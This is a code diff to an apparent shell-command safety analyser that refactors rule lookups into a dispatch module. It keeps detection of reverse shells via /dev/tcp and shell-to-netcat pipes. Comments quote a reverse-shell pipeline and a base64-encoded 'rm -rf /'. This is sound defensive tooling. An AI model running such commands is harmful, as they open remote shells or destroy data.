@@ -15,7 +15,7 @@ import threading
 import tree_sitter
 import tree_sitter_bash
 
-from aintern_ls.safety import budget, rules
+from aintern_ls.safety import budget, dispatch
 from aintern_ls.safety.context import (
     NO_STDIN,
     STDIN_FILE,
@@ -28,6 +28,7 @@ from aintern_ls.safety.context import (
 )
 from aintern_ls.safety.levels import RiskLevel
 from aintern_ls.safety.paths import is_device, is_secret
+from aintern_ls.safety.registry import ENV_SETUP, SHELLS
 from aintern_ls.safety.words import (
     GLOB_CHARS,
     ORIGIN_NETWORK,
@@ -281,7 +282,7 @@ class _Walker:
         for m in re.finditer(r"[^;&|\n]+", text):
             words = split_words(m.group(0), start + m.start())
             if words:
-                info = rules.judge(words, self.scope)
+                info = dispatch.judge(words, self.scope)
         return info
 
     def redirected(self, node: Node, stdin: Stdin) -> Info:
@@ -377,7 +378,7 @@ class _Walker:
             return None, []
         if target.startswith(("/dev/tcp/", "/dev/udp/")):
             name = _command_name_of(body)
-            if name in rules.SHELLS or name in ("exec", "sh", "bash") or op == "<>":
+            if name in SHELLS or name in ("exec", "sh", "bash") or op == "<>":
                 scope.add(
                     RiskLevel.CRITICAL,
                     "reverse-shell",
@@ -431,7 +432,7 @@ class _Walker:
             info = self.stmt(stage, stdin)
             first = False
             name = _command_name_of(_body(stage))
-            if name in rules.SHELLS and shell_at is None:
+            if name in SHELLS and shell_at is None:
                 shell_at = stage
             elif shell_at is not None and name in _NETCATS:
                 # `sh -i 2>&1 | nc host port`: a shell whose output goes to the network.
@@ -445,7 +446,7 @@ class _Walker:
         return info
 
     def _next_stdin(self, info: Info, prev: Stdin, stage: Node | None) -> Stdin:
-        return rules.next_stdin(info, prev)
+        return dispatch.next_stdin(info, prev)
 
     # -- commands ------------------------------------------------------------------------
 
@@ -477,7 +478,7 @@ class _Walker:
             return Info()
         if words[0].text in ("cd", "pushd") and len(words) == 1:
             self.scope.pending_cd = "~"
-        return rules.judge(words, self.scope, stdin)
+        return dispatch.judge(words, self.scope, stdin)
 
     def assignment(self, node: Node) -> None:
         name_node = node.child_by_field_name("name")
@@ -712,7 +713,7 @@ class _Walker:
         first = _command_name_of(stmts[0]) if stmts else ""
         if info.network_fetch:
             return _text(node), True, False, ORIGIN_NETWORK
-        if first in rules.ENV_SETUP:
+        if first in ENV_SETUP:
             return _text(node), True, False, "env-setup"
         # `$(echo cm0gLXJmIC8= | base64 -d)`: re-run the pipeline's static output.
         out = self._static_output(stmts[0]) if len(stmts) == 1 else None
@@ -725,7 +726,7 @@ class _Walker:
             return None
         stages = list(node.named_children) if node.type == "pipeline" else [node]
         stdin: Stdin | None = None
-        probe = Scope("", "bash", None, self.scope.nested_analyser, 99)
+        probe = Scope("", "bash", None, self.scope.nested_analyser, 99, self.scope.judge)
         for stage in stages:
             if stage.type != "command":
                 return None
@@ -738,7 +739,7 @@ class _Walker:
                 continue
             if stdin is None:
                 return None
-            nxt = rules.transform_output(info, stdin)
+            nxt = dispatch.transform_output(info, stdin)
             if nxt is None:
                 return None
             stdin = nxt
